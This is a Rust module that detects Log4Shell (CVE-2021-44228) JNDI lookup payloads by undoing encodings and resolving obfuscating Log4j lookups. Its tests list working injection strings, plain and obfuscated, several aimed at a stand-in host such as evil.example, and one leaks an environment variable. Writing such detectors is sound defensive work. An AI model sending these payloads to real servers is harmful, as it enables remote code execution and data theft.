//! Log4Shell (CVE-2021-44228): `${jndi:ldap://...}` and its obfuscations.
//!
//! Detection normalises the text the way Log4j's `StrSubstitutor` would read it: encodings are
//! undone ([`super::decode`]), then lookups are resolved innermost first — `${lower:j}`,
//! `${upper:n}`, `${::-j}`, `${env:NOPE:-j}`, `${date:'j'}` all become their literal text —
//! and the result is searched for `${jndi:` followed by a JNDI protocol. Lookups that need the
//! environment (`${env:USER}`) stay as written: they cannot spell a protocol the attacker knows.

use std::borrow::Cow;

use aho_corasick::AhoCorasick;

use super::decode::decode_all;

/// Prefilter triggers: every way a `$` (or `${`) reaches Log4j in the encodings we undo. `%25`
/// (an encoded `%`) stands for every double encoding.
#[cfg(test)]
pub(super) const TRIGGERS: &[&str] = &[
    "${", "$%", "$\\u", "%24", "%25", "\\u0024", "\\x24", "%u0024",
];

/// JNDI protocols that make a lookup reach out (`jndi:` is followed by one of them and `:`).
const PROTOCOLS: &[&[u8]] = &[
    b"ldaps", b"ldap", b"rmi", b"dns", b"iiop", b"corba", b"nds", b"nis", b"https", b"http",
];

/// Deepest lookup nesting resolved; deeper `${` are kept as text.
const MAX_DEPTH: usize = 64;

/// Looks for a Log4Shell payload in `raw`; returns the normalised payload from `${jndi:` on.
pub(super) fn find(raw: &[u8], spellers: &AhoCorasick) -> Option<Vec<u8>> {
    let decoded = match memchr::memchr2(b'%', b'\\', raw) {
        Some(_) => Cow::Owned(decode_all(raw)),
        None => Cow::Borrowed(raw),
    };
    memchr::memmem::find(&decoded, b"${")?;
    // Template text such as `Hello ${name}` stops here, unresolved.
    if !spellers.is_match(&*decoded) {
        return None;
    }
    let resolved = resolve_lookups(&decoded);
    let at = find_jndi(&resolved)?;
    // Only the lookup itself: what follows it (the rest of a cookie, say) is none of ours.
    Some(resolved[at..lookup_end(&resolved, at)].to_vec())
}

/// The end of the lookup that opens at `at` (just past its closing brace), or the text's end.
fn lookup_end(text: &[u8], at: usize) -> usize {
    let mut depth = 0usize;
    let mut i = at;
    while i < text.len() {
        if text[i] == b'$' && text.get(i + 1) == Some(&b'{') {
            depth += 1;
            i += 2;
            continue;
        }
        if text[i] == b'}' {
            depth -= 1;
            if depth == 0 {
                return i + 1;
            }
        }
        i += 1;
    }
    text.len()
}

/// An automaton for [`SPELLERS`], which [`find`] takes.
pub(super) fn spellers() -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(SPELLERS)
        .expect("a small fixed pattern set")
}

/// What a text needs before a `${jndi:` can come out of it: the word itself, or a lookup that
/// could spell it (`:-` defaults, `lower:`, `upper:`, `date:`).
const SPELLERS: [&str; 5] = ["jndi", ":-", "lower:", "upper:", "date:"];

/// Position of the first `${jndi:<protocol>:` (ASCII case-insensitive).
fn find_jndi(text: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(rel) = memchr::memmem::find(&text[from..], b"${") {
        let at = from + rel;
        let rest = &text[at + 2..];
        if rest.len() >= 5 && rest[..5].eq_ignore_ascii_case(b"jndi:") {
            let after = &rest[5..];
            let hit = PROTOCOLS.iter().any(|p| {
                after.len() > p.len()
                    && after[..p.len()].eq_ignore_ascii_case(p)
                    && after[p.len()] == b':'
            });
            if hit {
                return Some(at);
            }
        }
        from = at + 2;
    }
    None
}

/// Resolves every lookup whose value is known without the environment, innermost first.
fn resolve_lookups(input: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(input.len());
    let mut open: Vec<usize> = Vec::new();
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'$' && input.get(i + 1) == Some(&b'{') && open.len() < MAX_DEPTH {
            open.push(out.len());
            out.extend_from_slice(b"${");
            i += 2;
            continue;
        }
        if b == b'}' {
            if let Some(start) = open.pop() {
                match resolve_one(&out[start + 2..]) {
                    Some(value) => {
                        out.truncate(start);
                        out.extend_from_slice(&value);
                    }
                    None => out.push(b'}'),
                }
                i += 1;
                continue;
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// The value of one lookup body (the text between `${` and `}`), when it is known statically.
fn resolve_one(body: &[u8]) -> Option<Vec<u8>> {
    let colon = memchr::memchr(b':', body);
    let prefix = colon.map_or(body, |c| &body[..c]);
    if prefix.eq_ignore_ascii_case(b"jndi") {
        return None;
    }
    let default_at = memchr::memmem::find(body, b":-");
    if prefix.eq_ignore_ascii_case(b"lower") || prefix.eq_ignore_ascii_case(b"upper") {
        let start = prefix.len() + 1;
        let end = default_at.filter(|&d| d >= start).unwrap_or(body.len());
        return Some(fold_case_tricks(&body[start.min(end)..end]));
    }
    if let Some(d) = default_at {
        return Some(body[d + 2..].to_vec());
    }
    if colon.is_some() && prefix.eq_ignore_ascii_case(b"date") {
        let pattern = &body[prefix.len() + 1..];
        if pattern.len() >= 2 && pattern[0] == b'\'' && pattern[pattern.len() - 1] == b'\'' {
            return Some(pattern[1..pattern.len() - 1].to_vec());
        }
    }
    None
}

/// `${upper:ı}` is `I` and `${upper:ſ}` is `S` in Java: map those to ASCII so that `jndı` is
/// read as `jndi`.
fn fold_case_tricks(text: &[u8]) -> Vec<u8> {
    const DOTLESS_I: &[u8] = "ı".as_bytes();
    const LONG_S: &[u8] = "ſ".as_bytes();
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        if text[i..].starts_with(DOTLESS_I) {
            out.push(b'i');
            i += DOTLESS_I.len();
        } else if text[i..].starts_with(LONG_S) {
            out.push(b's');
            i += LONG_S.len();
        } else {
            out.push(text[i]);
            i += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        find(s.as_bytes(), &spellers()).is_some()
    }

    #[test]
    fn plain_and_obfuscated_payloads() {
        for p in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:LDAP://evil/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${upper:j}${upper:n}${lower:d}${lower:i}:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://x}",
            "${${::-${lower:j}}ndi:iiop://x}",
            "${jnd${upper:ı}:ldap://x}",
            "%24%7Bjndi:ldap://x%7D",
            "%2524%257Bjndi%253Aldap%253A%252F%252Fx%257D",
            "\\u0024{jndi:corba://x}",
            "$%7Bjndi:nds://x}",
            "${jndi:http://x/}",
            "${jndi:ldaps://x/}",
            "a=1&b=${jndi:rmi://x:1099/a}&c=2",
            "${jndi:ldap://${env:USER}.x/a}",
        ] {
            assert!(hit(p), "{p}");
        }
    }

    #[test]
    fn look_alikes_do_not_match() {
        for p in [
            "${name}",
            "Hello ${user.name:-friend}, total ${amount}",
            "${jndi}",
            "${jndi:java:comp/env}",
            "jndi:ldap://not-a-lookup",
            "$10 off",
            "%24filter=name",
            "${${${${${",
            "}}}}}${",
            "${lower:jndi}:ldap://x",
            "${date}${lower}${upper}${::-}${:}",
        ] {
            assert!(!hit(p), "{p}");
        }
    }

    #[test]
    fn evidence_is_the_lookup_alone() {
        let ev = find(b"x=${${lower:j}ndi:ldap://e/a}", &spellers()).unwrap();
        assert_eq!(ev, b"${jndi:ldap://e/a}");
        let ev = find(
            b"a=${jndi:ldap://e/${env:USER}}; session=secret",
            &spellers(),
        )
        .unwrap();
        assert_eq!(ev, b"${jndi:ldap://e/${env:USER}}");
        let ev = find(b"${jndi:ldap://unclosed", &spellers()).unwrap();
        assert_eq!(ev, b"${jndi:ldap://unclosed");
    }
}
